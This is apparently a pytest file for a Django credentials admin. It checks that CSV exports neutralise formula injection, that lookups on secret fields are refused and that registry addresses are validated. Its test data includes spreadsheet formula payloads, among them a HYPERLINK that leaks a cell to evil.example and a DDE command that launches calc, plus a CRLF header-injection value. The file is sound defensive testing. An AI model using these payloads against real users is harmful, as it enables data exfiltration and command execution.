"""The admin under hostile input: exports neutralise formulas, list URLs refuse lookups on
secret fields (issue 14, findings 1 and 6)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from credentials.models import (
    AccessKey,
    Actor,
    AuditEvent,
    LongTermCredential,
    RefreshToken,
    Registry,
    User,
)
from credentials.rules import EDIT, READ
from tests.helpers import client_for, permit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\tindented=1",
    "\r=1",
]


def read_export(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_event_export_neutralises_formulas_from_unauthenticated_input(
    staff_user: User, formula: str
) -> None:
    Client(HTTP_USER_AGENT=formula).post(
        "/accounts/login/", {"username": formula.strip() or "x", "password": "wrong"}
    )
    AuditEvent.record(
        AuditEvent.Action.REGISTRY_LOGIN_FAILED, Actor(None, user_agent=formula), username=formula
    )
    rows = read_export(client_for(staff_user).get(reverse("admin:credentials_auditevent_export")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the export has no rows"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + formula in cells  # kept, readable, as text


def test_the_credential_export_neutralises_formulas_too(
    staff_user: User, registry: Registry
) -> None:
    evil = User.objects.create_user(username="=1+1", password="x" * 20)
    LongTermCredential.objects.create_for(owner=evil, registry=registry, name="ci", by=Actor(evil))
    rows = read_export(
        client_for(staff_user).get(reverse("admin:credentials_longtermcredential_export"))
    )
    assert rows[1][1] == "'=1+1"


def test_the_permission_export_neutralises_formulas_in_user_and_group_names(
    staff_user: User, registry: Registry
) -> None:
    # Django's usernames may begin with @, + or -; a group's name may be anything.
    evil_user = User.objects.create_user(username="@SUM(1+1)", password="x" * 20)
    evil_group = Group.objects.create(name='=HYPERLINK("http://evil.example/","x")')
    permit(registry, "team-a", EDIT, user=evil_user)
    permit(registry, "team-a/app", READ, group=evil_group)
    rows = read_export(client_for(staff_user).get(reverse("admin:credentials_permission_export")))
    grantees = sorted(row[4] for row in rows[1:])
    assert grantees == ['\'=HYPERLINK("http://evil.example/","x")', "'@SUM(1+1)"]


@pytest.mark.parametrize(
    ("url_name", "lookup"),
    [
        ("admin:credentials_longtermcredential_changelist", "password_digest__startswith"),
        ("admin:credentials_longtermcredential_export", "password_digest__startswith"),
        ("admin:credentials_longtermcredential_changelist", "password_digest"),
        # The password a reset replaced, kept as a digest during its overlap (issue 16).
        ("admin:credentials_longtermcredential_changelist", "previous_password_digest__startswith"),
        ("admin:credentials_longtermcredential_export", "previous_password_digest__startswith"),
        ("admin:credentials_longtermcredential_changelist", "owner__password__startswith"),
        ("admin:credentials_temporarycredential_changelist", "password_digest__startswith"),
        ("admin:credentials_temporarycredential_changelist", "user__password__startswith"),
        ("admin:credentials_user_changelist", "password__startswith"),
        ("admin:credentials_auditevent_changelist", "actor__password__startswith"),
        ("admin:credentials_auditevent_export", "actor__password__startswith"),
        # A refresh token's digest, an access key's encrypted secret key.
        ("admin:credentials_refreshtoken_changelist", "digest__startswith"),
        ("admin:credentials_refreshtoken_changelist", "long_term__password_digest__startswith"),
        ("admin:credentials_accesskey_changelist", "secret_ciphertext__startswith"),
        # Who granted a permission, to whom; who created an organization (issue 24).
        ("admin:credentials_permission_changelist", "user__password__startswith"),
        ("admin:credentials_permission_export", "granted_by__password__startswith"),
        ("admin:credentials_organization_changelist", "created_by__password__startswith"),
    ],
)
def test_lookups_on_secret_fields_are_refused(
    staff_user: User, registry: Registry, url_name: str, lookup: str
) -> None:
    LongTermCredential.objects.create_for(
        owner=staff_user, registry=registry, name="ci", by=Actor(staff_user)
    )
    response = client_for(staff_user).get(reverse(url_name), {lookup: "a"})
    assert response.status_code == 400


@pytest.mark.parametrize(
    "url_name",
    ["admin:credentials_auditevent_changelist", "admin:credentials_permission_changelist"],
)
def test_a_registry_filter_that_is_not_a_registry_is_djangos_bad_filter_page_not_a_500(
    staff_user: User, registry: Registry, url_name: str
) -> None:
    client = client_for(staff_user)
    for value in ("x", "1.5", "²"):
        response = client.get(reverse(url_name), {"registry": value})
        assert response.status_code == 302, value
        assert response["Location"].endswith("?e=1")


def test_ordinary_filters_still_work(staff_user: User, registry: Registry) -> None:
    response = client_for(staff_user).get(
        reverse("admin:credentials_longtermcredential_changelist"), {"is_enabled__exact": "1"}
    )
    assert response.status_code == 200


def test_auditors_see_access_keys_and_refresh_tokens_and_no_secret_of_them(
    auditor: User, owner: User, registry: Registry
) -> None:
    credential, _ = LongTermCredential.objects.create_for(
        owner=owner, registry=registry, name="ci-bot", by=Actor(owner)
    )
    token = RefreshToken.objects.issue(service="registry", long_term_id=credential.pk)
    key, secret = AccessKey.objects.create_for(user=owner, by=Actor(owner))
    client = client_for(auditor)
    tokens = client.get(reverse("admin:credentials_refreshtoken_changelist"))
    assert tokens.status_code == 200
    page = tokens.content.decode()
    assert f"ci-bot ({credential.username}, {owner.username})" in page
    keys = client.get(reverse("admin:credentials_accesskey_changelist"))
    assert keys.status_code == 200
    assert key.access_key_id in keys.content.decode()
    stored = RefreshToken.objects.get()
    detail = client.get(reverse("admin:credentials_refreshtoken_change", args=[stored.pk]))
    assert detail.status_code == 200
    key_detail = client.get(reverse("admin:credentials_accesskey_change", args=[key.pk]))
    for response in (tokens, keys, detail, key_detail):
        text = response.content.decode()
        for never in (token, stored.digest, secret, key.secret_ciphertext):
            assert never not in text
    # Seeing is all: no deleting, adding or changing either.
    assert (
        client.post(
            reverse("admin:credentials_refreshtoken_delete", args=[stored.pk]), {"post": "yes"}
        ).status_code
        == 403
    )
    assert RefreshToken.objects.count() == 1


ADDRESS_MESSAGES = {
    "en": "Enter the address as host or host:port",
    "zh-hans": "请按 host 或 host:port 的形式输入地址",
}


@pytest.mark.parametrize("language", sorted(ADDRESS_MESSAGES))
@pytest.mark.parametrize(
    "address",
    [
        "swr.example.test\r\nBcc: everyone@example.test",
        "https://swr.example.test",
        "swr.example.test/v2",
        "swr example.test",
        "swr.example.test:65536",
        "swr.example.test:0",
    ],
)
def test_the_admin_refuses_a_registry_address_that_is_not_host_and_port(
    staff_user: User, region, address: str, language: str
) -> None:
    client = client_for(staff_user)
    client.cookies["django_language"] = language
    response = client.post(
        reverse("admin:credentials_registry_add"),
        {"region": region.pk, "name": "bad", "address": address, "project_name": ""},
        HTTP_ACCEPT_LANGUAGE=language,
    )
    assert response.status_code == 200
    assert ADDRESS_MESSAGES[language] in response.content.decode()
    assert not Registry.objects.filter(name="bad").exists()


@pytest.mark.parametrize(
    "address", ["swr.example.test", "registry.local:5000", "192.0.2.10:5000", "[2001:db8::1]:443"]
)
def test_the_admin_saves_a_registry_address_that_is_host_and_port(
    staff_user: User, region, address: str
) -> None:
    response = client_for(staff_user).post(
        reverse("admin:credentials_registry_add"),
        {"region": region.pk, "name": "good", "address": address, "project_name": ""},
    )
    assert response.status_code == 302
    assert Registry.objects.get(name="good").address == address
